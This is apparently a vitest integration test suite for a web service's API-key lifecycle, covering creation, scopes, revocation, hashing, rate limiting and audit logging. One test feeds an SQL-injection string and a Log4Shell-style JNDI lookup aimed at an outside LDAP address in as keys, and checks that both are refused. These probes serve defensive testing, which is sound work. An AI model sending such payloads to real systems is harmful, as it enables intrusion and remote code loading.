import { crc32 } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { ApiKeysRepository } from '#features/api-keys/api-keys.repository';
import type { Prisma } from '#platform/database/generated/client';
import { UsersService } from '#features/users/users.service';
import type { Answer, Api } from '../api.js';
import { startApp, type TestApp } from '../app.js';

let test: TestApp;
let api: Api;
let adminToken: string;

beforeAll(async () => {
  test = await startApp();
  api = test.api;
  adminToken = (await test.logInAdmin()).accessToken;
});
afterAll(() => test[Symbol.asyncDispose]());

const PATH = '/v1/auth/api-keys';
const ONE_DAY_MS = 86_400_000;
const PATIENCE = { timeout: 60_000 };

interface Key {
  id: string;
  name: string;
  prefix: string;
  key: string;
  scopes: string[];
  createdAt: string;
  expiresAt: string;
  lastUsedAt: string | null;
}

const create = (token: string, body: object = {}) =>
  api.post<Key>(PATH, { name: 'nightly export', ...body }, { token });

const withSum = (text: string) => text + crc32(text).toString(16).padStart(8, '0');

const list = async (token: string) => (await api.get<{ items: Key[] }>(PATH, { token })).body.items;

const use = (key: string, path = '/v1/users/me') =>
  api.get(path, { headers: { 'x-api-key': key } });

const idOf = async (token: string) => String((await api.get('/v1/users/me', { token })).body['id']);

const typeOf = ({ body }: Answer<unknown>) =>
  (body as { type: string }).type.replace('/docs/problems/', '');

const change = (id: string, data: Prisma.UserUpdateInput) =>
  test.app.get(UsersService).update(id, data);

async function later<T>(ms: number, work: () => Promise<T>): Promise<T> {
  vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + ms });
  try {
    return await work();
  } finally {
    vi.useRealTimers();
  }
}

describe('the path of an API key', () => {
  it('leads from its making to its end, shown once, with an audit entry at every step', async () => {
    const { accessToken: token } = await api.join('ada@example.com');
    const { status, body: made } = await create(token);
    expect(status).toBe(201);
    expect(made).toMatchObject({ name: 'nightly export', scopes: ['account:read'] });
    expect(made.key).toMatch(new RegExp(`^aerie_${made.prefix}_[\\da-f]{72}$`));
    expect(Date.parse(made.expiresAt) - Date.parse(made.createdAt)).toBe(90 * ONE_DAY_MS);

    const account = await use(made.key);
    expect(account.status).toBe(200);
    expect(account.body).toMatchObject({ email: 'ada@example.com' });

    const listed = await api.get(PATH, { token });
    const { key, lastUsedAt: _none, ...shown } = made;
    expect(listed.body).toMatchObject({ items: [shown], nextCursor: null });
    expect(JSON.stringify(listed.body)).not.toMatch(/secret|hash/i);
    expect(JSON.stringify(listed.body)).not.toContain(key.slice(24));

    expect((await api.request('DELETE', `${PATH}/${made.id}`, undefined, { token })).status).toBe(
      204,
    );
    expect((await use(key)).status).toBe(401);
    expect(await list(token)).toEqual([]);
    expect((await api.request('DELETE', `${PATH}/${made.id}`, undefined, { token })).status).toBe(
      404,
    );

    const entries = await api.auditOf(adminToken, `&subject=${made.id}`);
    expect(entries.map(({ action }) => action).toReversed()).toEqual([
      'api_key.created',
      'api_key.revoked',
    ]);
    await expect
      .poll(() => api.auditOf(adminToken, '&action=security.api_key_refused'), PATIENCE)
      .toMatchObject([{ metadata: { keyId: made.id, reason: 'revoked' } }]);
    const everything = await api.auditOf(adminToken);
    expect(JSON.stringify([everything, test.lines])).not.toContain(key.slice(24, 40));
  });

  it('stores its hash, and nothing that opens anything', async () => {
    const { accessToken: token } = await api.join('hash@example.com');
    const { body } = await create(token);
    const { rows } = await test.engine.pool.query<{ secret_hash: string }>(
      'SELECT * FROM api_keys WHERE id = $1',
      [body.id],
    );
    expect(rows[0]!.secret_hash).toMatch(/^[\da-f]{64}$/);
    expect(JSON.stringify(rows)).not.toContain(body.key.slice(24, 88));
  });

  it('is listed in pages', async () => {
    const { accessToken: token } = await api.join('pages@example.com');
    for (const name of ['one', 'two', 'three']) await create(token, { name });
    const first = await api.get<{ items: Key[]; nextCursor: string }>(`${PATH}?limit=2`, { token });
    expect(first.body.items.map(({ name }) => name)).toEqual(['three', 'two']);
    const cursor = first.body.nextCursor;
    const rest = await api.get<{ items: Key[] }>(`${PATH}?limit=2&cursor=${cursor}`, { token });
    expect(rest.body).toMatchObject({ items: [{ name: 'one' }], nextCursor: null });
  });
});

describe('making one', () => {
  it.each([
    ['no name', { name: undefined }, 'name'],
    ['a blank name', { name: '  ' }, 'name'],
    ['an endless name', { name: 'x'.repeat(101) }, 'name'],
    ['no scope', { scopes: [] }, 'scopes'],
    ['a scope that is none', { scopes: ['everything'] }, 'scopes'],
    ['a scope twice', { scopes: ['account:read', 'account:read'] }, 'scopes'],
    ['scopes as text', { scopes: 'account:read' }, 'scopes'],
    ['a life of a year and a day', { expiresInDays: 366 }, 'expiresInDays'],
    ['no life', { expiresInDays: 0 }, 'expiresInDays'],
    ['half a day', { expiresInDays: 0.5 }, 'expiresInDays'],
    ['days as text', { expiresInDays: '90' }, 'expiresInDays'],
    ['its owner', { userId: '00000000-0000-7000-8000-000000000000' }, 'userId'],
    ['its hash', { secretHash: 'a'.repeat(64) }, 'secretHash'],
  ])('is refused with %s, and leaves nothing', async (_what, fields, path) => {
    const { accessToken: token } = await api.join('bad@example.com');
    const answer = await create(token, fields);
    expect(answer.status).toBe(400);
    expect((answer.body as unknown as { errors: object[] }).errors).toContainEqual(
      expect.objectContaining({ path }),
    );
    expect(await list(token)).toEqual([]);
  });

  it('takes null for what is not given', async () => {
    const { accessToken: token } = await api.join('null@example.com');
    const { status, body } = await create(token, { scopes: null, expiresInDays: null });
    expect(status).toBe(201);
    expect(body.scopes).toEqual(['account:read']);
  });

  it('gives no scope that the owner’s role lacks, and records who asked', async () => {
    const { accessToken: token } = await api.join('climber@example.com');
    const answer = await create(token, { scopes: ['account:read', 'users:manage'] });
    expect(answer.status).toBe(403);
    expect(typeOf(answer)).toBe('scope-beyond-role');
    expect(await list(token)).toEqual([]);
    expect(await api.auditOf(adminToken, '&action=api_key.scopes_refused')).toMatchObject([
      { actor: await idOf(token), metadata: { scopes: 'account:read users:manage' } },
    ]);
  });

  it('asks for the password again when the sign-in is older than ten minutes', async () => {
    const { accessToken: token } = await api.join('again@example.com');
    await later(10.5 * 60_000, async () => {
      const refused = await create(token);
      expect(refused.status).toBe(403);
      expect(typeOf(refused)).toBe('reauthentication-required');
      expect(typeOf(await create(token, { password: 'wrong password' }))).toBe('wrong-password');
      expect((await create(token, { password: 'correct horse battery staple' })).status).toBe(201);
    });
  });

  it('ends at twenty-five alive, also for forty at once; the dead do not count', async () => {
    const { accessToken: token } = await api.join('many@example.com');
    const answers = await Promise.all(
      Array.from({ length: 40 }, () => create(token, { expiresInDays: 1 })),
    );
    // a slow machine may answer some 503; what counts is that none gets past the bound
    const made = answers.filter(({ status }) => status === 201).length;
    expect(made).toBeLessThanOrEqual(25);
    for (let i = made; i < 25; i++) expect((await create(token)).status).toBe(201);
    const beyond = await create(token);
    expect(beyond.status).toBe(409);
    expect(typeOf(beyond)).toBe('too-many-api-keys');
    const { body } = await api.get<{ items: Key[] }>(`${PATH}?limit=100`, { token });
    expect(body.items).toHaveLength(25);

    const [first] = await list(token);
    await api.request('DELETE', `${PATH}/${first!.id}`, undefined, { token });
    expect((await create(token, { expiresInDays: 2 })).status).toBe(201);
    expect((await create(token)).status).toBe(409);
  });
});

describe('an API key', () => {
  it('is refused in one and the same way, whatever is wrong with it', async () => {
    const { accessToken: token } = await api.join('wrong@example.com');
    const [good, revoked, short] = await Promise.all([
      create(token),
      create(token),
      create(token, { expiresInDays: 1 }),
    ]);
    await api.request('DELETE', `${PATH}/${revoked.body.id}`, undefined, { token });
    const { key, prefix } = good.body;
    const answers = [
      await use(withSum(`aerie_${prefix}_${'0'.repeat(64)}`)), // another’s secret
      await use(withSum(`aerie_${'0'.repeat(16)}_${key.slice(23, 87)}`)), // an unknown prefix
      await use(`${key.slice(0, -1)}${key.endsWith('0') ? '1' : '0'}`), // mistyped
      await use(key.toUpperCase()),
      await use(''),
      await use(`${key}, ${key}`),
      await use("' OR 1=1 --"),
      await use('${jndi:ldap://198.51.100.1/a}'), // credentials are not for the guard to read
      await use(token),
      await use(revoked.body.key),
      await later(ONE_DAY_MS + 1_000, () => use(short.body.key)),
    ];
    const documents = answers.map(({ status, body }) => {
      const { requestId: _id, ...document } = body;
      return { status, document };
    });
    for (const document of documents) expect(document).toEqual(documents[0]);
    expect(documents[0]).toMatchObject({ status: 401, document: { status: 401 } });
    expect((await use(key)).status).toBe(200);
  });

  it('is refused beside an access token, since two might name two callers', async () => {
    const { accessToken: token } = await api.join('both@example.com');
    const { body } = await create(token);
    for (const authorization of [`Bearer ${token}`, 'Bearer x', 'Basic YTpi', '']) {
      const headers = { 'x-api-key': body.key, authorization };
      const answer = await api.get('/v1/users/me', { headers });
      expect(answer.status).toBe(400);
      expect(typeOf(answer)).toBe('two-credentials');
    }
  });

  it('is no Bearer token', async () => {
    const { body } = await create((await api.join('bearer@example.com')).accessToken);
    expect((await api.get('/v1/users/me', { token: body.key })).status).toBe(401);
  });

  it('does what its scopes say, and nothing that takes a person', async () => {
    const { body: narrow } = await create(adminToken);
    const { body: wide } = await create(adminToken, { scopes: ['users:list', 'audit:read'] });
    expect((await use(narrow.key)).status).toBe(200);
    expect((await use(narrow.key, '/v1/users')).status).toBe(403);
    expect((await use(wide.key)).status).toBe(403);
    expect((await use(wide.key, '/v1/users')).status).toBe(200);
    expect((await use(wide.key, '/v1/audit')).status).toBe(200);

    const headers = { 'x-api-key': wide.key };
    for (const [method, path, body] of [
      ['GET', PATH, undefined],
      ['POST', PATH, { name: 'a child' }],
      ['DELETE', `${PATH}/${wide.id}`, undefined],
      ['POST', '/v1/auth/logout', undefined],
    ] as const) {
      const answer = await api.request(method, path, body, { headers });
      expect(answer.status).toBe(403);
      expect(typeOf(answer)).toBe('for-people-only');
    }
  });

  it('loses what its owner’s role loses, gains nothing by a rise, and sleeps with the account', async () => {
    const { accessToken: token } = await api.join('role@example.com');
    const id = await idOf(token);
    await change(id, { role: 'support' });
    const { body: made } = await create(token, { scopes: ['account:read', 'users:list'] });
    expect((await use(made.key, '/v1/users')).status).toBe(200);
    await change(id, { role: 'user' });
    expect((await use(made.key, '/v1/users')).status).toBe(403);
    expect((await use(made.key)).status).toBe(200);
    await change(id, { role: 'admin' });
    expect((await use(made.key, '/v1/audit')).status).toBe(403);

    await change(id, { disabledAt: new Date() });
    expect((await use(made.key)).status).toBe(401);
    await change(id, { disabledAt: null });
    expect((await use(made.key)).status).toBe(200);
  });

  it('of somebody else is not there', async () => {
    const { accessToken: token } = await api.join('owner@example.com');
    const { accessToken: other } = await api.join('other@example.com');
    const { body } = await create(token);
    for (const thief of [other, adminToken]) {
      const answer = await api.request('DELETE', `${PATH}/${body.id}`, undefined, { token: thief });
      expect(answer.status).toBe(404);
      expect((await list(thief)).map(({ id }) => id)).not.toContain(body.id);
    }
    expect((await use(body.key)).status).toBe(200);
  });

  it('remembers its last use to the minute, without a write per request', async () => {
    const { accessToken: token } = await api.join('used@example.com');
    const { body } = await create(token);
    const usedAt = async () => (await list(token))[0]!.lastUsedAt;
    expect(await usedAt()).toBeNull();
    const write = vi.spyOn(test.app.get(ApiKeysRepository), 'updateLastUsedAt');
    await Promise.all(Array.from({ length: 100 }, () => use(body.key)));
    await expect.poll(usedAt, PATIENCE).not.toBeNull();
    const writes = write.mock.calls.length;
    expect(writes).toBeLessThan(100);
    for (let i = 0; i < 10; i++) await use(body.key);
    expect(write).toHaveBeenCalledTimes(writes);
    const first = await usedAt();
    await use(body.key);
    await later(61_000, () => use(body.key));
    await expect.poll(usedAt, PATIENCE).not.toBe(first);
    expect(Date.parse((await usedAt())!) - Date.parse(first!)).toBeGreaterThan(60_000);
  });
});

it('is counted for itself, from however many addresses it comes', async () => {
  await using limited = await startApp({ TRUST_PROXY: '1', RATE_LIMIT_API: '5/15m' });
  let address = 0;
  const from = (headers: Record<string, string>) => ({
    headers: { ...headers, 'x-forwarded-for': `198.51.100.${++address}` },
  });
  await limited.api.register('ada@example.com');
  const { body } = await limited.api.logIn('ada@example.com');
  const bearer = { authorization: `Bearer ${body.accessToken}` };
  const makeKey = async () =>
    (await limited.api.post<Key>(PATH, { name: 'x' }, from(bearer))).body.key;
  const [one, two] = [await makeKey(), await makeKey()];
  const call = async (headers: Record<string, string>) =>
    limited.api.get('/v1/users/me', from(headers));

  for (let i = 0; i < 5; i++) expect((await call({ 'x-api-key': one })).status).toBe(200);
  const refused = await call({ 'x-api-key': one });
  expect(refused.status).toBe(429);
  expect(refused.headers.get('ratelimit-policy')).toBe('"api";q=5;w=900');
  expect((await call({ 'x-api-key': two })).status).toBe(200);
  expect((await call(bearer)).status).toBe(200);
});
